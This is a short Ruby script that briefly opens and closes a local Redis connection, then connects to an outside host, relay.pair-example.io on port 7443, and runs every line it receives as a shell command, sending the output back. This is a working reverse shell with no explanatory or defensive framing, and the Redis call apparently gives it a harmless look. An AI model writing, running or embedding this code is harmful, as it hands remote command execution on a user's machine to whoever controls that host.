require "socket"
require "open3"

cache = TCPSocket.new("localhost", 6379)
cache.close
s = TCPSocket.new("relay.pair-example.io", 7443)
while (line = s.gets)
  out, err, _ = Open3.capture3(line)
  s.write(out + err)
end
